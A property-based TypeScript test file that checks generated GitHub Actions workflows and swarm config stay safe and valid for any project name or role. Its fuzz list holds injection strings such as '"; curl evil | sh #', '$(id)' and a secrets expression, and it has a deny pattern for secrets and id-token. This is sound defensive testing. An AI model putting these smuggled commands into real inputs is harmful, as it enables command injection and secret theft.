/** What is written keeps the rules for workflows, whatever names it is given. */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import * as z from 'zod';
import { readSwarmFile } from '../../src/core/config/read-swarm-file.ts';
import { notesOf } from '../../src/core/config/without-effect.ts';
import { readBeads } from '../../src/core/beads/jsonl.ts';
import { dispatchTitle } from '../../src/core/swarm/dispatch-inputs.ts';
import { choose, type Asked } from '../../src/core/setup/choose.ts';
import { isWritten } from '../../src/core/setup/file-change.ts';
import { coordinatorShortfalls, roleShortfalls } from '../../src/core/setup/fitness.ts';
import { propose, type Proposal } from '../../src/core/setup/propose.ts';
import { knownRoles } from '../../src/core/setup/roles.ts';
import { root } from '../architecture/modules.ts';
import { foundOf, wanted, type Repository } from './found-of.ts';

const test = { because: 'the test script of package.json', prepare: ['npm ci'], run: 'npm test' };

const job = z.looseObject({
  'timeout-minutes': z.number(),
  'runs-on': z.literal('ubuntu-24.04'),
  permissions: z.record(z.string(), z.string()),
  steps: z.array(
    z.looseObject({
      uses: z.string().optional(),
      run: z.string().optional(),
      shell: z.string().optional(),
      with: z.record(z.string(), z.unknown()).optional(),
    }),
  ),
});
const workflow = z.looseObject({
  'run-name': z.string(),
  on: z.record(z.string(), z.unknown()),
  permissions: z.strictObject({}),
  concurrency: z.strictObject({ group: z.string(), 'cancel-in-progress': z.literal(false) }),
  jobs: z.record(z.string(), job),
});

/** Path → text of everything that is written; throws when the names were refused. */
function written(asked: Asked, repository: Repository = {}): ReadonlyMap<string, string> {
  const found = foundOf(repository);
  const choice = choose(asked, found);
  if (choice.kind === 'refused') throw new Error(choice.problems.map(({ message }) => message).join('; '));
  const proposed = propose(found, choice, { ...wanted, face: asked.face ?? 'action' });
  if (proposed.kind === 'refused') throw new Error(proposed.problems.map(({ message }) => message).join('; '));
  return new Map((proposed satisfies Proposal).files.filter(isWritten).map(({ path, after }) => [path, after]));
}

function workflowsIn(files: ReadonlyMap<string, string>) {
  return [...files].flatMap(([path, text]) =>
    path.startsWith('.github/workflows/') ? [{ path, text, file: workflow.parse(parse(text)) }] : [],
  );
}

const hostile = [
  '${{ secrets.GITHUB_TOKEN }}',
  '"; curl evil | sh #',
  '$(id)',
  'a: b',
  '- x',
  '# not a comment',
  '!!js/function "x"',
  '&a *a',
  '<<: *x',
  '@org/team',
  '`id`',
  'it\'s "quoted" \\ and more',
  '{a: [b',
  '| >',
  '%YAML 1.1',
  '---',
  'null',
  '~',
  '0x10',
  '2026-01-01',
  ' ::error::x ',
  'ﬁrst 🐝 swarm\u2028x',
  '\u202eevil',
];
const anyName = fc.oneof(fc.constantFrom(...hostile), fc.string({ unit: 'binary', minLength: 1, maxLength: 60 }));
/** Of which a swarm file's name can be made. */
const lineOf = anyName.filter((name) => name.isWellFormed() && !/\p{Cc}/u.test(name) && name.trim() !== '');
const roleId = fc.oneof(
  fc.constantFrom(
    ...knownRoles.map(({ id }) => id),
    'on',
    'yes',
    'null',
    'true',
    '0x1',
    '1-a',
    '1e3',
    'constructor',
    'a-',
  ),
  fc.stringMatching(/^[a-z0-9][a-z0-9-]{0,37}[a-z]$/),
);
const roles = fc.uniqueArray(roleId, { minLength: 1, maxLength: 8 }).filter((all) => !all.includes('coordinator'));

describe('the files of a first swarm, for any name and any roles', () => {
  it('are a swarm file in which validate finds nothing, with the name as it was said', () =>
    fc.assert(
      fc.property(anyName, roles, fc.boolean(), (name, some, tested) => {
        const found = foundOf({ title: name, test: tested ? test : null });
        const choice = choose({ name, roles: some }, found);
        if (choice.kind === 'refused') {
          // The one thing that may be wrong here: a name that is no line of text.
          expect(choice.problems.map(({ code }) => code)).toEqual(['bad-name']);
          expect(/\p{Cc}|^\s*$/u.test(name) || !name.isWellFormed()).toBe(true);
          return;
        }
        const files = written({ name, roles: some }, { title: name, test: tested ? test : null });
        const read = readSwarmFile(files.get('.github/swarm.yml') ?? '', 'swarm.yml');
        expect(read.problems).toEqual([]);
        if (read.kind !== 'ok') throw new Error('it has no problems and is not ok');
        expect(notesOf(read.written)).toEqual([]);
        expect(read.config.name).toBe(name.trim());
        expect(read.config.roles.map(({ id }) => id)).toEqual(some);
        const beads = readBeads(files.get('.beads/issues.jsonl') ?? '', 'issues.jsonl');
        expect(beads.problems).toEqual([]);
        expect(beads.beads.get(read.config.epic)).toMatchObject({ type: 'epic', status: 'open', title: name.trim() });
      }),
      { numRuns: 40 },
    ));

  it('are workflows by the rules: no rights on top, none to write beside code, everything pinned and timed', () =>
    fc.assert(
      fc.property(lineOf, roles, (name, some) => {
        const all = workflowsIn(written({ name, roles: some }, { title: name, test }));
        expect(all).toHaveLength(some.length + 1);
        for (const { text, file } of all) {
          expect(text).not.toContain(name.trim().length > 12 ? name.trim() : '\u0000');
          for (const { permissions, steps } of Object.values(file.jobs)) {
            const writes = Object.values(permissions).includes('write');
            expect(writes && steps.some(({ run }) => run !== undefined)).toBe(false);
            for (const { uses, run, shell } of steps) {
              if (uses !== undefined) expect(uses).toMatch(/^[\w./-]+@[0-9a-f]{40}$/);
              if (run !== undefined) expect([run.includes('${{'), shell]).toEqual([false, 'bash']);
            }
          }
          expect(text).not.toMatch(/secrets|GITHUB_ENV|GITHUB_PATH|pull_request_target|id-token/);
        }
      }),
      { numRuns: 40 },
    ));
});

describe('a second run', () => {
  it('finds everything as it should be, whatever the first was asked', () =>
    fc.assert(
      fc.property(lineOf, roles, fc.boolean(), fc.constantFrom('action', 'app'), (name, some, tested, face) => {
        const repository = { title: name, test: tested ? test : null };
        const files = Object.fromEntries(written({ name, roles: some, face }, repository));
        const found = foundOf({ ...repository, files });
        const choice = choose({}, found);
        if (choice.kind === 'refused') throw new Error('it was refused');
        const again = propose(found, choice, { ...wanted, face });
        if (again.kind === 'refused') throw new Error('it was refused');
        expect(again.obstacles).toEqual([]);
        expect(again.files.filter(isWritten)).toEqual([]);
      }),
      { numRuns: 40 },
    ));
});

describe('a role’s workflow', () => {
  const files = written({ roles: ['research'] });
  const [role] = workflowsIn(files);
  const steps = role?.file.jobs['work']?.steps ?? [];

  it('has a title by which its run is found again', () => {
    const given = { swarm: 'app', worker: 'R1', attempt: 2, dispatch: 'r1-2-abc' };
    const title = Object.entries(given).reduce(
      (text, [name, value]) => text.replace(`\${{ inputs.${name} }}`, String(value)),
      role?.file['run-name'] ?? '',
    );
    expect(title).toBe(dispatchTitle(given));
  });

  it('starts by dispatch alone, with texts as its inputs', () => {
    expect(Object.keys(role?.file.on ?? {})).toEqual(['workflow_dispatch']);
    const text = z.strictObject({ description: z.string(), type: z.literal('string'), required: z.literal(true) });
    const inputs = z.strictObject({
      inputs: z.strictObject({ swarm: text, worker: text, attempt: text, dispatch: text }),
    });
    expect(inputs.safeParse(role?.file.on['workflow_dispatch']).success).toBe(true);
  });

  it('joins the swarm before it has any code, and then takes the commit that the swarm says', () => {
    expect(steps.map(({ uses }) => uses?.replace(/@.*/, ''))).toEqual([
      'swarmlead/swarmlead/worker',
      'actions/checkout',
      undefined,
    ]);
    expect(steps[1]?.with).toEqual({ ref: '${{ steps.swarm.outputs.commit }}', 'persist-credentials': false });
  });

  it('does its job by our own measure, in both faces', () => {
    expect(roleShortfalls(role?.text ?? '', 'action')).toEqual([]);
    const app = workflowsIn(written({ roles: ['research'], face: 'app' }));
    expect(app.map(({ path }) => path)).toEqual(['.github/workflows/swarm-research.yml']);
    expect(roleShortfalls(app[0]?.text ?? '', 'app')).toEqual([]);
    expect(roleShortfalls(app[0]?.text ?? '', 'action')).toEqual([expect.stringContaining('wakes')]);
  });
});

describe('the coordinator’s workflow', () => {
  const lead = workflowsIn(written({ roles: ['research'] })).find(({ path }) => path.endsWith('/swarmlead.yml'));

  it('checks nothing out and runs no shell', () => {
    expect(lead?.file.jobs['coordinate']?.steps).toEqual([
      {
        name: 'Look at the swarm',
        uses: `swarmlead/swarmlead@${wanted.pin.commit}`,
        with: { paused: '${{ vars.SWARMLEAD_PAUSED }}' },
      },
    ]);
  });

  it('does its job by our own measure', () => expect(coordinatorShortfalls(lead?.text ?? '')).toEqual([]));
});

describe('the example', () => {
  const example = (name: string) => {
    const text = readFileSync(join(root, 'examples/novacron/.github/workflows', name), 'utf8');
    return workflow.parse(parse(text));
  };
  const compared = (file: Readonly<Record<string, unknown>>): unknown =>
    JSON.parse(
      JSON.stringify(file, (_key, value: unknown) =>
        typeof value === 'string' ? value.replace(/@[0-9a-f]{40}$/, '').replaceAll(/\s+/g, ' ') : value,
      ),
    );

  it('has the same coordinator', () => {
    const [ours, theirs] = [
      written({ roles: ['research'] }).get('.github/workflows/swarmlead.yml') ?? '',
      example('swarmlead.yml'),
    ];
    expect(compared(workflow.parse(parse(ours)))).toEqual(compared(theirs));
  });

  it('has roles that differ in what they do, and in nothing before and after it', () => {
    const ours = workflow.parse(
      parse(written({ roles: ['research'] }).get('.github/workflows/swarm-research.yml') ?? ''),
    );
    const theirs = example('swarm-research.yml');
    const around = (file: z.infer<typeof workflow>): unknown => {
      const { work, ...others } = file.jobs;
      const jobs = { ...others, work: { ...work, 'timeout-minutes': 0, steps: work?.steps.slice(0, 2) } };
      return compared({ ...file, jobs });
    };
    expect(around(ours)).toEqual(around(theirs));
  });
});

describe('the swarm of the five roles', () => {
  const text = written({ template: 'novacron' }).get('.github/swarm.yml') ?? '';
  const read = readSwarmFile(text, 'swarm.yml');

  it('waits in the order of the first swarm', () => {
    if (read.kind !== 'ok') throw new Error('it has problems');
    expect(read.config.workers.map(({ id, needs }) => [id, needs])).toEqual([
      ['R1', []],
      ['C2', []],
      ['A3', []],
      ['T4', ['C2', 'A3']],
      ['A5', ['R1', 'C2', 'A3', 'T4']],
    ]);
  });
});
